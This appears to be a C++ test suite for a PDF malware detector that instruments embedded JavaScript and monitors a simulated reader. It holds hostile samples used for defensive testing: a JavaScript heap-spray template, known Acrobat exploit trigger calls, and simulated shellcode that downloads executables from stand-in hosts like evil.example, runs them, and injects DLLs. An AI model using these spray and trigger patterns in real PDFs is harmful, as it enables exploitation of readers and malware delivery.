// Builds a document with a catalog, one page, and an /OpenAction JS action.
pd::Document doc_with_open_action_js(const std::string& script,
                                     bool js_in_stream = false) {
  pd::Document doc;
  doc.header().found = true;
  doc.header().offset = 0;
  doc.header().version = "1.7";
  doc.header().version_valid = true;

  pd::Object js_value = pd::Object::string(script);
  if (js_in_stream) {
    pd::Stream s;
    s.data = sp::to_bytes(script);
    s.dict.set("Length", pd::Object(static_cast<std::int64_t>(s.data.size())));
    const pd::Ref sref = doc.add_object(pd::Object(s));
    js_value = pd::Object(sref);
  }

  pd::Dict action;
  action.set("S", pd::Object::name("JavaScript"));
  action.set("JS", js_value);
  const pd::Ref action_ref = doc.add_object(pd::Object(action));

  pd::Dict page;
  page.set("Type", pd::Object::name("Page"));
  const pd::Ref page_ref = doc.add_object(pd::Object(page));
  pd::Dict pages;
  pages.set("Type", pd::Object::name("Pages"));
  pages.set("Kids", pd::Object(pd::Array{pd::Object(page_ref)}));
  const pd::Ref pages_ref = doc.add_object(pd::Object(pages));

  pd::Dict catalog;
  catalog.set("Type", pd::Object::name("Catalog"));
  catalog.set("Pages", pd::Object(pages_ref));
  catalog.set("OpenAction", pd::Object(action_ref));
  doc.trailer().set("Root", pd::Object(doc.add_object(pd::Object(catalog))));
  return doc;
}

std::string spray_and(const std::string& shellcode, const std::string& tail) {
  return "var unit = unescape('%u9090%u9090') + '" + shellcode + "';"
         "var spray = unit;"
         "while (spray.length < 4194304) spray += spray;"
         "var keep = spray;" + tail;
}

// Full harness: front-end instruments, detector registers, reader opens.
struct Harness {
  sy::Kernel kernel;
  sp::Rng rng{12345};
  std::unique_ptr<co::RuntimeDetector> detector;
  std::unique_ptr<co::FrontEnd> frontend;
  std::unique_ptr<rd::ReaderSim> reader;

  explicit Harness(const std::string& version = "9.0") {
    detector = std::make_unique<co::RuntimeDetector>(kernel, rng);
    frontend = std::make_unique<co::FrontEnd>(rng, detector->detector_id());
    rd::ReaderConfig cfg;
    cfg.version = version;
    reader = std::make_unique<rd::ReaderSim>(kernel, cfg);
    detector->attach(*reader);
  }

  // Instruments + registers + opens; returns the key for verdict lookups.
  co::InstrumentationKey run(const pd::Document& doc, const std::string& name) {
    co::FrontEndResult fe = frontend->process(pd::write_document(doc));
    EXPECT_TRUE(fe.ok) << fe.error;
    detector->register_document(fe.record.key, name, fe.features);
    reader->open_document(fe.output, name);
    return fe.record.key;
  }
};

}  // namespace

// ---------------------------------------------------------------------------
// Javascript chains
// ---------------------------------------------------------------------------

TEST(JsChain, FindsChainThroughReferences) {
  pd::Document doc = doc_with_open_action_js("app.alert(1);");
  const co::JsChainAnalysis a = co::analyze_js_chains(doc);
  ASSERT_EQ(a.sites.size(), 1u);
  EXPECT_TRUE(a.sites[0].triggered);
  EXPECT_EQ(a.sites[0].source, "app.alert(1);");
  // Chain covers action + catalog (ancestor); ratio = |chain| / total.
  EXPECT_GE(a.chain_objects.size(), 2u);
  EXPECT_GT(a.chain_ratio(), 0.0);
  EXPECT_LE(a.chain_ratio(), 1.0);
}

TEST(JsChain, JsInStreamIsDecoded) {
  pd::Document doc = doc_with_open_action_js("var x = 42;", /*js_in_stream=*/true);
  // Compress the JS stream to prove chain analysis decodes filters.
  for (auto& [num, obj] : doc.objects()) {
    if (obj.is_stream()) {
      pd::Stream& s = obj.as_stream();
      pd::EncodedStream enc = pd::encode_stream(s.data, {"FlateDecode"});
      s.data = enc.data;
      s.dict.set("Filter", enc.filter);
    }
  }
  const co::JsChainAnalysis a = co::analyze_js_chains(doc);
  ASSERT_EQ(a.sites.size(), 1u);
  EXPECT_EQ(a.sites[0].source, "var x = 42;");
  EXPECT_TRUE(a.sites[0].code_in_stream);
}

TEST(JsChain, UntriggeredJsIsNotMarkedTriggered) {
  pd::Document doc;
  pd::Dict orphan;
  orphan.set("S", pd::Object::name("JavaScript"));
  orphan.set("JS", pd::Object::string("var lonely = 1;"));
  doc.add_object(pd::Object(orphan));
  pd::Dict catalog;
  catalog.set("Type", pd::Object::name("Catalog"));
  doc.trailer().set("Root", pd::Object(doc.add_object(pd::Object(catalog))));
  const co::JsChainAnalysis a = co::analyze_js_chains(doc);
  ASSERT_EQ(a.sites.size(), 1u);
  EXPECT_FALSE(a.sites[0].triggered);
}

TEST(JsChain, NextChainsShareOneSequence) {
  pd::Document doc;
  pd::Dict second;
  second.set("S", pd::Object::name("JavaScript"));
  second.set("JS", pd::Object::string("var b = 2;"));
  const pd::Ref second_ref = doc.add_object(pd::Object(second));
  pd::Dict first;
  first.set("S", pd::Object::name("JavaScript"));
  first.set("JS", pd::Object::string("var a = 1;"));
  first.set("Next", pd::Object(second_ref));
  const pd::Ref first_ref = doc.add_object(pd::Object(first));
  pd::Dict catalog;
  catalog.set("Type", pd::Object::name("Catalog"));
  catalog.set("OpenAction", pd::Object(first_ref));
  doc.trailer().set("Root", pd::Object(doc.add_object(pd::Object(catalog))));

  const co::JsChainAnalysis a = co::analyze_js_chains(doc);
  ASSERT_EQ(a.sites.size(), 2u);
  EXPECT_EQ(a.sites[0].sequence_id, a.sites[1].sequence_id);
  EXPECT_NE(a.sites[0].sequence_pos, a.sites[1].sequence_pos);
}

// ---------------------------------------------------------------------------
// Static features
// ---------------------------------------------------------------------------

TEST(StaticFeatures, BenignRichDocumentHasLowRatio) {
  pd::Document doc = doc_with_open_action_js("var v = 1;");
  // Pad with content objects not on the JS chain.
  for (int i = 0; i < 40; ++i) {
    pd::Dict content;
    content.set("Type", pd::Object::name("XObject"));
    content.set("Index", pd::Object(i));
    doc.add_object(pd::Object(content));
  }
  const co::StaticFeatures f = co::extract_static_features(doc);
  EXPECT_LT(f.js_chain_ratio, 0.2);
  EXPECT_FALSE(f.f1());
  EXPECT_FALSE(f.f2());
  EXPECT_EQ(f.binary_sum(), 0);
}

TEST(StaticFeatures, SparseMaliciousDocumentHasHighRatio) {
  pd::Document doc = doc_with_open_action_js("evil();");
  const co::StaticFeatures f = co::extract_static_features(doc);
  EXPECT_GE(f.js_chain_ratio, 0.2);
  EXPECT_TRUE(f.f1());
}

TEST(StaticFeatures, HeaderObfuscationDetected) {
  pd::Document doc = doc_with_open_action_js("x();");
  doc.header().offset = 100;
  EXPECT_TRUE(co::extract_static_features(doc).f2());
  doc.header().offset = 0;
  doc.header().version_valid = false;
  EXPECT_TRUE(co::extract_static_features(doc).f2());
  doc.header().version_valid = true;
  doc.header().found = false;
  EXPECT_TRUE(co::extract_static_features(doc).f2());
}

TEST(StaticFeatures, HexEscapedKeywordOnChainDetected) {
  // Parse from text so the raw spelling survives.
  const std::string text =
      "%PDF-1.4\n"
      "1 0 obj\n<< /Type /Catalog /OpenAction 2 0 R >>\nendobj\n"
      "2 0 obj\n<< /S /JavaScr#69pt /JS (evil()) >>\nendobj\n"
      "trailer\n<< /Root 1 0 R >>\n";
  pd::Document doc = pd::parse_document(sp::to_bytes(text));
  const co::StaticFeatures f = co::extract_static_features(doc);
  EXPECT_TRUE(f.f3());
}

TEST(StaticFeatures, EmptyObjectsOnChainCounted) {
  pd::Document doc = doc_with_open_action_js("x();");
  // Attach an empty object to the JS chain (referenced from the action).
  pd::Dict empty;
  const pd::Ref empty_ref = doc.add_object(pd::Object(empty));
  for (auto& [num, obj] : doc.objects()) {
    if (obj.is_dict() && obj.as_dict().contains("JS")) {
      obj.as_dict().set("Extra", pd::Object(empty_ref));
    }
  }
  const co::StaticFeatures f = co::extract_static_features(doc);
  EXPECT_GE(f.empty_object_count, 1);
  EXPECT_TRUE(f.f4());
}

TEST(StaticFeatures, MultiLevelEncodingOnChainDetected) {
  pd::Document doc = doc_with_open_action_js("x();", /*js_in_stream=*/true);
  for (auto& [num, obj] : doc.objects()) {
    if (obj.is_stream()) {
      pd::Stream& s = obj.as_stream();
      pd::EncodedStream enc =
          pd::encode_stream(s.data, {"ASCIIHexDecode", "FlateDecode"});
      s.data = enc.data;
      s.dict.set("Filter", enc.filter);
    }
  }
  const co::StaticFeatures f = co::extract_static_features(doc);
  EXPECT_EQ(f.max_encoding_levels, 2);
  EXPECT_TRUE(f.f5());
}

TEST(StaticFeatures, EncodingSnapshotSurvivesDecompression) {
  pd::Document doc = doc_with_open_action_js("x();", /*js_in_stream=*/true);
  for (auto& [num, obj] : doc.objects()) {
    if (obj.is_stream()) {
      pd::Stream& s = obj.as_stream();
      pd::EncodedStream enc =
          pd::encode_stream(s.data, {"FlateDecode", "ASCIIHexDecode"});
      s.data = enc.data;
      s.dict.set("Filter", enc.filter);
    }
  }
  const co::EncodingLevels levels = co::snapshot_encoding_levels(doc);
  doc.decompress_all();
  const co::StaticFeatures f =
      co::extract_static_features(doc, co::analyze_js_chains(doc), &levels);
  EXPECT_EQ(f.max_encoding_levels, 2);
}

// ---------------------------------------------------------------------------
// Keys & encryption
// ---------------------------------------------------------------------------

TEST(Keys, GenerateAndParseRoundTrip) {
  sp::Rng rng(1);
  const std::string id = co::generate_detector_id(rng);
  const co::InstrumentationKey key = co::generate_document_key(rng, id);
  EXPECT_EQ(key.detector_id, id);
  auto parsed = co::InstrumentationKey::parse(key.combined());
  ASSERT_TRUE(parsed.has_value());
  EXPECT_EQ(*parsed, key);
}

TEST(Keys, ParseRejectsMalformed) {
  EXPECT_FALSE(co::InstrumentationKey::parse("").has_value());
  EXPECT_FALSE(co::InstrumentationKey::parse("no-dash-here!").has_value());
  EXPECT_FALSE(co::InstrumentationKey::parse("abcd-123").has_value());
  EXPECT_FALSE(
      co::InstrumentationKey::parse("zzzzzzzzzzzzzzzz-0123456789abcdef")
          .has_value());
}

TEST(Keys, DocumentKeysAreUnique) {
  sp::Rng rng(2);
  const std::string id = co::generate_detector_id(rng);
  std::set<std::string> seen;
  for (int i = 0; i < 100; ++i) {
    seen.insert(co::generate_document_key(rng, id).document_key);
  }
  EXPECT_EQ(seen.size(), 100u);
}

TEST(Encryption, CppRoundTrip) {
  const std::string plain = "var payload = unescape('%u9090'); /* binary: \x01\x02 */";
  const std::string key = "0123456789abcdef-fedcba9876543210";
  const std::string enc = co::encrypt_script(plain, key);
  EXPECT_NE(enc, plain);
  EXPECT_EQ(co::decrypt_script(enc, key), plain);
}

TEST(Encryption, JsDecryptorMatchesCpp) {
  // The generated JS decryptor must invert encrypt_script inside the engine.
  sp::Rng rng(3);
  const co::InstrumentationKey key =
      co::generate_document_key(rng, co::generate_detector_id(rng));
  const std::string original = "result = 6 * 7;";
  const std::string wrapper = co::generate_monitor_wrapper(
      original, key, co::EnvelopeRole::kMiddle, rng);  // no SOAP needed
  js::Interpreter in;
  in.run_source(wrapper);
  js::Value* result = in.globals()->lookup("result");
  ASSERT_NE(result, nullptr);
  EXPECT_DOUBLE_EQ(result->as_number(), 42.0);
}

TEST(MonitorCodegen, WrappersAreRandomizedPerDocument) {
  sp::Rng rng(4);
  const co::InstrumentationKey key =
      co::generate_document_key(rng, co::generate_detector_id(rng));
  const std::string a =
      co::generate_monitor_wrapper("x();", key, co::EnvelopeRole::kFull, rng);
  const std::string b =
      co::generate_monitor_wrapper("x();", key, co::EnvelopeRole::kFull, rng);
  EXPECT_NE(a, b);  // identifiers, junk and decoys differ per generation
}

TEST(MonitorCodegen, DecoysPresent) {
  sp::Rng rng(5);
  const co::InstrumentationKey key =
      co::generate_document_key(rng, co::generate_detector_id(rng));
  co::MonitorCodegenOptions opts;
  opts.decoy_count = 3;
  const std::string w = co::generate_monitor_wrapper(
      "x();", key, co::EnvelopeRole::kFull, rng, opts);
  // 1 real + 3 decoy decryptor functions.
  std::size_t count = 0, pos = 0;
  while ((pos = w.find("function ", pos)) != std::string::npos) {
    ++count;
    ++pos;
  }
  EXPECT_EQ(count, 4u);
}

TEST(MonitorCodegen, RoleControlsSoapCalls) {
  sp::Rng rng(6);
  const co::InstrumentationKey key =
      co::generate_document_key(rng, co::generate_detector_id(rng));
  auto count_soap = [&](co::EnvelopeRole role) {
    const std::string w =
        co::generate_monitor_wrapper("x();", key, role, rng);
    std::size_t n = 0, pos = 0;
    while ((pos = w.find("SOAP.request", pos)) != std::string::npos) {
      ++n;
      ++pos;
    }
    return n;
  };
  EXPECT_EQ(count_soap(co::EnvelopeRole::kFull), 2u);
  EXPECT_EQ(count_soap(co::EnvelopeRole::kEnterOnly), 1u);
  EXPECT_EQ(count_soap(co::EnvelopeRole::kExitOnly), 1u);
  EXPECT_EQ(count_soap(co::EnvelopeRole::kMiddle), 0u);
}

// ---------------------------------------------------------------------------
// Instrumenter
// ---------------------------------------------------------------------------

TEST(Instrumenter, ReplacesTriggeredScriptAndRecordsOriginal) {
  pd::Document doc = doc_with_open_action_js("app.alert('payload');");
  sp::Rng rng(7);
  co::Instrumenter inst(rng, "0123456789abcdef");
  co::InstrumentationRecord rec = inst.instrument(doc);
  ASSERT_EQ(rec.entries.size(), 1u);
  EXPECT_EQ(rec.entries[0].original, "app.alert('payload');");
  // The stored script is now the wrapper, not the original.
  const co::JsChainAnalysis after = co::analyze_js_chains(doc);
  ASSERT_EQ(after.sites.size(), 1u);
  EXPECT_NE(after.sites[0].source.find("SOAP.request"), std::string::npos);
  EXPECT_EQ(after.sites[0].source.find("app.alert('payload')"), std::string::npos)
      << "original must be encrypted, not embedded in clear";
}

TEST(Instrumenter, DeinstrumentRestoresOriginal) {
  pd::Document doc = doc_with_open_action_js("original();");
  sp::Rng rng(8);
  co::Instrumenter inst(rng, "0123456789abcdef");
  co::InstrumentationRecord rec = inst.instrument(doc);
  co::Instrumenter::deinstrument(doc, rec);
  const co::JsChainAnalysis after = co::analyze_js_chains(doc);
  ASSERT_EQ(after.sites.size(), 1u);
  EXPECT_EQ(after.sites[0].source, "original();");
}

TEST(Instrumenter, DuplicateInstrumentationGuard) {
  pd::Document doc = doc_with_open_action_js("x();");
  sp::Rng rng(9);
  co::Instrumenter inst(rng, "0123456789abcdef");
  co::InstrumentationRecord first = inst.instrument(doc);
  EXPECT_FALSE(first.already_instrumented);
  co::InstrumentationRecord second = inst.instrument(doc);
  EXPECT_TRUE(second.already_instrumented);
  EXPECT_TRUE(second.entries.empty());
}

TEST(Instrumenter, StreamScriptsAreInstrumentedInPlace) {
  pd::Document doc = doc_with_open_action_js("stream_code();", /*js_in_stream=*/true);
  sp::Rng rng(10);
  co::Instrumenter inst(rng, "0123456789abcdef");
  co::InstrumentationRecord rec = inst.instrument(doc);
  ASSERT_EQ(rec.entries.size(), 1u);
  EXPECT_TRUE(rec.entries[0].in_stream);
  const co::JsChainAnalysis after = co::analyze_js_chains(doc);
  EXPECT_NE(after.sites[0].source.find("SOAP.request"), std::string::npos);
}

TEST(Instrumenter, DynamicLiteralRewritingCoversTableIvMethods) {
  sp::Rng rng(11);
  co::Instrumenter inst(rng, "0123456789abcdef");
  const co::InstrumentationKey key =
      co::generate_document_key(rng, "0123456789abcdef");
  const std::string src =
      "this.addScript('n', 'stage2();');"
      "app.setTimeOut('delayed();', 1000);"
      "this.setAction('WillClose', 'closer();');";
  const std::string out = inst.instrument_dynamic_literals(src, key);
  // Each literal payload was replaced by an (escaped) wrapper.
  EXPECT_EQ(out.find("'stage2();'"), std::string::npos);
  EXPECT_EQ(out.find("'delayed();'"), std::string::npos);
  EXPECT_EQ(out.find("'closer();'"), std::string::npos);
  std::size_t count = 0, pos = 0;
  while ((pos = out.find("SOAP.request", pos)) != std::string::npos) {
    ++count;
    ++pos;
  }
  EXPECT_GE(count, 6u);  // 2 per wrapped literal
}

TEST(Instrumenter, DynamicRewritingLeavesNonLiteralsAlone) {
  sp::Rng rng(12);
  co::Instrumenter inst(rng, "0123456789abcdef");
  const co::InstrumentationKey key =
      co::generate_document_key(rng, "0123456789abcdef");
  const std::string src = "app.setTimeOut(computed_code, 10);";
  EXPECT_EQ(inst.instrument_dynamic_literals(src, key), src);
}

TEST(Instrumenter, SequencesGetSingleEnvelope) {
  pd::Document doc;
  pd::Dict second;
  second.set("S", pd::Object::name("JavaScript"));
  second.set("JS", pd::Object::string("var b = 2;"));
  const pd::Ref second_ref = doc.add_object(pd::Object(second));
  pd::Dict first;
  first.set("S", pd::Object::name("JavaScript"));
  first.set("JS", pd::Object::string("var a = 1;"));
  first.set("Next", pd::Object(second_ref));
  const pd::Ref first_ref = doc.add_object(pd::Object(first));
  pd::Dict catalog;
  catalog.set("Type", pd::Object::name("Catalog"));
  catalog.set("OpenAction", pd::Object(first_ref));
  doc.trailer().set("Root", pd::Object(doc.add_object(pd::Object(catalog))));

  sp::Rng rng(13);
  co::Instrumenter inst(rng, "0123456789abcdef");
  inst.instrument(doc);
  const co::JsChainAnalysis after = co::analyze_js_chains(doc);
  std::size_t total_soap = 0;
  for (const auto& site : after.sites) {
    std::size_t pos = 0;
    while ((pos = site.source.find("SOAP.request", pos)) != std::string::npos) {
      ++total_soap;
      ++pos;
    }
  }
  // One envelope across the whole sequence: one enter + one exit.
  EXPECT_EQ(total_soap, 2u);
}

// ---------------------------------------------------------------------------
// End-to-end: instrumented document in the reader with the detector attached
// ---------------------------------------------------------------------------

TEST(EndToEnd, BenignDocumentStaysClean) {
  Harness h;
  pd::Document doc = doc_with_open_action_js(
      "var total = 0; for (var i = 0; i < 50; i++) total += i;"
      "app.alert('sum ' + total);");
  for (int i = 0; i < 30; ++i) {
    pd::Dict filler;
    filler.set("Idx", pd::Object(i));
    doc.add_object(pd::Object(filler));
  }
  const auto key = h.run(doc, "benign.pdf");
  const co::Verdict v = h.detector->verdict(key);
  EXPECT_FALSE(v.malicious);
  EXPECT_DOUBLE_EQ(v.malscore, 0.0);
  EXPECT_TRUE(h.detector->alerts().empty());
}

TEST(EndToEnd, InstrumentedScriptStillComputesOriginalSemantics) {
  // Instrumentation must be behaviour-preserving for benign documents.
  Harness h;
  pd::Document doc = doc_with_open_action_js(
      "var fields = ['a','b','c']; var msg = fields.join('-');"
      "if (msg != 'a-b-c') throw 'broken semantics';"
      "app.alert(msg);");
  const auto key = h.run(doc, "semantics.pdf");
  EXPECT_FALSE(h.detector->verdict(key).malicious);
  EXPECT_FALSE(h.reader->process().crashed());
}

TEST(EndToEnd, SprayDropExecuteIsDetectedAndConfined) {
  Harness h;
  rd::ShellcodeProgram prog;
  prog.ops.push_back({"DROP", {"http://evil.example/m.exe", "c:/m.exe"}});
  prog.ops.push_back({"EXEC", {"c:/m.exe"}});
  pd::Document doc = doc_with_open_action_js(spray_and(
      rd::encode_shellcode(prog), "Collab.getIcon(keep.substring(0, 1500));"));

  const auto key = h.run(doc, "dropper.pdf");
  const co::Verdict v = h.detector->verdict(key);
  EXPECT_TRUE(v.malicious);
  EXPECT_GE(v.malscore, h.detector->config().threshold);
  ASSERT_EQ(h.detector->alerts().size(), 1u);
  EXPECT_EQ(h.detector->alerts()[0], "dropper.pdf");

  // Confinement: dropped file quarantined, no un-sandboxed child running.
  EXPECT_FALSE(h.kernel.fs().exists("c:/m.exe"));
  EXPECT_TRUE(h.kernel.fs().exists("quarantine://c:/m.exe"));
  for (const auto& [pid, proc] : h.kernel.processes()) {
    if (proc->image() == "c:/m.exe") {
      EXPECT_TRUE(proc->sandboxed());
      EXPECT_TRUE(proc->terminated());
    }
  }
  // Executable tracked persistently.
  EXPECT_TRUE(h.detector->downloaded_executables().count("c:/m.exe"));
}

TEST(EndToEnd, MemoryFeatureFiresOnSprayOnly) {
  Harness h;
  // Spray but exploit nothing (e.g. preparing a render-context bug that is
  // absent from this build): only F8 should fire -> stays under threshold.
  pd::Document doc = doc_with_open_action_js(spray_and("", ""));
  for (int i = 0; i < 30; ++i) {
    pd::Dict filler;
    filler.set("Idx", pd::Object(i));
    doc.add_object(pd::Object(filler));
  }
  const auto key = h.run(doc, "sprayonly.pdf");
  const co::DocumentState* st = h.detector->state(key);
  ASSERT_NE(st, nullptr);
  EXPECT_TRUE(st->runtime_features.count(co::Feature::kF8_MemoryConsumption));
  const co::Verdict v = h.detector->verdict(key);
  EXPECT_FALSE(v.malicious);  // one in-JS feature, no other evidence: 9 < 10
}

TEST(EndToEnd, RenderContextExploitCaughtViaOutJsMonitoring) {
  // Flash-style CVE: JS sprays (F8, in-JS), the drop+exec happens out of
  // JS context -> F6 out-JS completes the score (9 + 1 = 10).
  Harness h("9.0");
  rd::ShellcodeProgram prog;
  prog.ops.push_back({"DROP", {"http://evil/f.exe", "c:/f.exe"}});
  prog.ops.push_back({"EXEC", {"c:/f.exe"}});
  pd::Document doc = doc_with_open_action_js(spray_and(rd::encode_shellcode(prog), ""));
  for (int i = 0; i < 30; ++i) {
    pd::Dict filler;
    filler.set("Idx", pd::Object(i));
    doc.add_object(pd::Object(filler));
  }
  pd::Stream flash;
  flash.dict.set("Subtype", pd::Object::name("Flash"));
  flash.dict.set("CVE", pd::Object::string("CVE-2010-3654"));
  flash.data = sp::to_bytes("swf");
  doc.add_object(pd::Object(flash));

  const auto key = h.run(doc, "flash.pdf");
  const co::Verdict v = h.detector->verdict(key);
  EXPECT_TRUE(v.malicious) << "malscore=" << v.malscore;
  const co::DocumentState* st = h.detector->state(key);
  EXPECT_TRUE(st->runtime_features.count(co::Feature::kF8_MemoryConsumption));
  EXPECT_TRUE(
      st->runtime_features.count(co::Feature::kF6_OutJsProcessCreation));
}

TEST(EndToEnd, CrashWithStaticFeaturesStillDetected) {
  // Spray + obfuscation, then a hijack that crashes the reader: memory
  // consumption (9) + static feature (1) reaches the threshold.
  Harness h;
  pd::Document doc = doc_with_open_action_js(
      spray_and("", "this.media.newPlayer(null);"));  // no shellcode -> crash
  doc.header().offset = 64;  // header obfuscation (F2)
  const auto key = h.run(doc, "crasher.pdf");
  EXPECT_TRUE(h.reader->process().crashed());
  const co::Verdict v = h.detector->verdict(key);
  EXPECT_TRUE(v.malicious) << "malscore=" << v.malscore;
}

TEST(EndToEnd, CrashWithoutStaticFeaturesIsTheKnownFalseNegative) {
  // The paper's 25 FNs: spray + crash, no obfuscation -> 9 < 10.
  Harness h;
  pd::Document doc = doc_with_open_action_js(
      spray_and("", "this.media.newPlayer(null);"));
  for (int i = 0; i < 30; ++i) {
    pd::Dict filler;
    filler.set("Idx", pd::Object(i));
    doc.add_object(pd::Object(filler));
  }
  const auto key = h.run(doc, "fn.pdf");
  EXPECT_TRUE(h.reader->process().crashed());
  const co::Verdict v = h.detector->verdict(key);
  EXPECT_FALSE(v.malicious);
  EXPECT_DOUBLE_EQ(v.malscore, 9.0);
}

TEST(EndToEnd, PatchedCveSampleIsNoise) {
  // The paper's 58 "did nothing" samples: version-fingerprinting malware
  // that only attacks readers it can exploit. On our Acrobat 9 simulator
  // the gate fails, nothing runs, nothing is flagged.
  Harness h("9.0");
  rd::ShellcodeProgram prog;
  prog.ops.push_back({"EXEC", {"c:/never.exe"}});
  pd::Document doc = doc_with_open_action_js(
      "if (app.viewerVersion < 7.5) {" +
      spray_and(rd::encode_shellcode(prog), "this.getAnnots(-1);") + "}");
  const auto key = h.run(doc, "noise.pdf");
  EXPECT_FALSE(h.reader->process().crashed());
  const co::Verdict v = h.detector->verdict(key);
  EXPECT_FALSE(v.malicious);
  EXPECT_DOUBLE_EQ(v.malscore, 0.0);
  EXPECT_FALSE(h.kernel.fs().exists("c:/never.exe"));
}

TEST(EndToEnd, FakeSoapMessageConvictsSender) {
  // Mimicry attack (§IV): malicious JS forges an "exit" message with a
  // guessed (malformed) key, hoping to end monitoring early. Zero
  // tolerance: the active document is convicted on the spot.
  Harness h;
  pd::Document doc = doc_with_open_action_js(
      "SOAP.request({cURL: 'http://127.0.0.1:8777/pdfshield', oRequest: "
      "{op: 'exit', key: 'guessed-key-123'}});");
  const auto key = h.run(doc, "mimic.pdf");
  const co::Verdict v = h.detector->verdict(key);
  EXPECT_TRUE(v.malicious);
  ASSERT_FALSE(v.evidence.empty());
}

TEST(Detector, SoapPolicyDistinguishesForeignFromForged) {
  sy::Kernel kernel;
  sp::Rng rng(77);
  co::RuntimeDetector detector(kernel, rng);
  rd::ReaderSim reader(kernel);
  detector.attach(reader);

  const auto key = co::generate_document_key(rng, detector.detector_id());
  detector.register_document(key, "probe.pdf", {});

  auto soap = [&](const std::string& op, const std::string& key_text) {
    auto payload = js::make_object();
    payload->set("op", js::Value(op));
    payload->set("key", js::Value(key_text));
    const js::Value resp = detector.handle_soap(js::Value(payload));
    return resp.as_object()->get("status").as_string();
  };

  // Authentic traffic.
  EXPECT_EQ(soap("enter", key.combined()), "ok");
  // Foreign key (different detector id, well-formed): filtered, and the
  // active document is NOT convicted.
  EXPECT_EQ(soap("enter", "00112233445566ff-aabbccddeeff0011"), "rejected");
  EXPECT_FALSE(detector.verdict(key).malicious);
  // Forged key under OUR detector id (unknown document): conviction.
  EXPECT_EQ(soap("exit", detector.detector_id() + "-0000000000000000"),
            "rejected");
  EXPECT_TRUE(detector.verdict(key).malicious);
}

TEST(Detector, BogusOpWithValidKeyIsForgery) {
  sy::Kernel kernel;
  sp::Rng rng(78);
  co::RuntimeDetector detector(kernel, rng);
  rd::ReaderSim reader(kernel);
  detector.attach(reader);
  const auto key = co::generate_document_key(rng, detector.detector_id());
  detector.register_document(key, "probe.pdf", {});

  auto payload = js::make_object();
  payload->set("op", js::Value("enter"));
  payload->set("key", js::Value(key.combined()));
  detector.handle_soap(js::Value(payload));  // authentic enter

  auto bogus = js::make_object();
  bogus->set("op", js::Value("shutdown"));
  bogus->set("key", js::Value(key.combined()));
  detector.handle_soap(js::Value(bogus));
  EXPECT_TRUE(detector.verdict(key).malicious);
}

TEST(EndToEnd, ForeignDetectorIdIsRejectedAsFake) {
  // A document instrumented by a DIFFERENT installation: its keys fail the
  // Detector-ID check, so its messages are treated as fake.
  Harness h;
  sp::Rng foreign_rng(999);
  co::FrontEnd foreign(foreign_rng, co::generate_detector_id(foreign_rng));
  pd::Document doc = doc_with_open_action_js("var x = 1;");
  co::FrontEndResult fe = foreign.process(pd::write_document(doc));
  ASSERT_TRUE(fe.ok);
  // Register under OUR detector with OUR key so the verdict is queryable.
  sp::Rng local_rng(31);
  const auto local_key =
      co::generate_document_key(local_rng, h.detector->detector_id());
  h.detector->register_document(local_key, "foreign.pdf", fe.features);
  // Open the foreign-instrumented file: its SOAP messages carry a foreign
  // detector id -> rejected (and nothing crashes).
  auto r = h.reader->open_document(fe.output, "foreign.pdf");
  EXPECT_TRUE(r.js_ran);
  EXPECT_FALSE(h.reader->process().crashed());
}

TEST(EndToEnd, CrossDocumentAttackIsLinked) {
  // Document A drops the executable; document B executes it (§III-E).
  Harness h;
  rd::ShellcodeProgram drop_only;
  drop_only.ops.push_back({"DROP", {"http://evil/split.exe", "c:/split.exe"}});
  pd::Document doc_a = doc_with_open_action_js(spray_and(
      rd::encode_shellcode(drop_only), "Collab.getIcon(keep.substring(0, 1500));"));
  const auto key_a = h.run(doc_a, "stage-a.pdf");
  ASSERT_TRUE(h.detector->downloaded_executables().count("c:/split.exe"));

  rd::ShellcodeProgram exec_only;
  exec_only.ops.push_back({"EXEC", {"c:/split.exe"}});
  pd::Document doc_b = doc_with_open_action_js(spray_and(
      rd::encode_shellcode(exec_only), "this.media.newPlayer(null);"));
  const auto key_b = h.run(doc_b, "stage-b.pdf");

  EXPECT_TRUE(h.detector->verdict(key_a).malicious);
  EXPECT_TRUE(h.detector->verdict(key_b).malicious);
}

TEST(EndToEnd, StagedAttackViaAddScriptIsStillMonitored) {
  // Stage 2 installed via addScript at runtime: the §IV countermeasure
  // (instrumenting dynamic-script literals) keeps it inside an envelope.
  Harness h;
  rd::ShellcodeProgram prog;
  prog.ops.push_back({"DROP", {"http://evil/s2.exe", "c:/s2.exe"}});
  prog.ops.push_back({"EXEC", {"c:/s2.exe"}});
  const std::string stage2 = "Collab.getIcon(keep.substring(0, 1500));";
  pd::Document doc = doc_with_open_action_js(
      spray_and(rd::encode_shellcode(prog),
                "this.addScript('s2', '" + stage2 + "');"));
  const auto key = h.run(doc, "staged.pdf");
  const co::Verdict v = h.detector->verdict(key);
  EXPECT_TRUE(v.malicious) << "malscore=" << v.malscore;
  EXPECT_TRUE(h.kernel.fs().exists("quarantine://c:/s2.exe"));
}

TEST(EndToEnd, DelayedExecutionViaSetTimeOutIsStillMonitored) {
  Harness h;
  rd::ShellcodeProgram prog;
  prog.ops.push_back({"EXEC", {"c:/delayed.exe"}});
  const std::string delayed = "Collab.getIcon(keep.substring(0, 1500));";
  pd::Document doc = doc_with_open_action_js(
      spray_and(rd::encode_shellcode(prog),
                "app.setTimeOut('" + delayed + "', 9000);"));
  const auto key = h.run(doc, "delayed.pdf");
  EXPECT_TRUE(h.detector->verdict(key).malicious);
}

TEST(EndToEnd, EggHuntDetectedViaMappedMemorySearch) {
  Harness h;
  rd::ShellcodeProgram prog;
  prog.ops.push_back({"HUNT", {"30"}});
  prog.ops.push_back({"WRITE", {"c:/egg.exe", "embedded"}});
  prog.ops.push_back({"EXEC", {"c:/egg.exe"}});
  pd::Document doc = doc_with_open_action_js(spray_and(
      rd::encode_shellcode(prog), "this.media.newPlayer(null);"));
  const auto key = h.run(doc, "egghunt.pdf");
  const co::DocumentState* st = h.detector->state(key);
  ASSERT_NE(st, nullptr);
  EXPECT_TRUE(
      st->runtime_features.count(co::Feature::kF10_MappedMemorySearch));
  EXPECT_TRUE(h.detector->verdict(key).malicious);
}

TEST(EndToEnd, DllInjectionAlwaysBlocked) {
  Harness h;
  // Give the kernel an extra victim process.
  h.kernel.create_process("explorer.exe");
  rd::ShellcodeProgram prog;
  prog.ops.push_back({"INJECT", {"*", "evil.dll"}});
  pd::Document doc = doc_with_open_action_js(spray_and(
      rd::encode_shellcode(prog), "Collab.getIcon(keep.substring(0, 1500));"));
  const auto key = h.run(doc, "inject.pdf");
  EXPECT_TRUE(h.detector->verdict(key).malicious);
  for (const auto& [pid, proc] : h.kernel.processes()) {
    EXPECT_TRUE(proc->injected_dlls().empty()) << proc->image();
  }
}

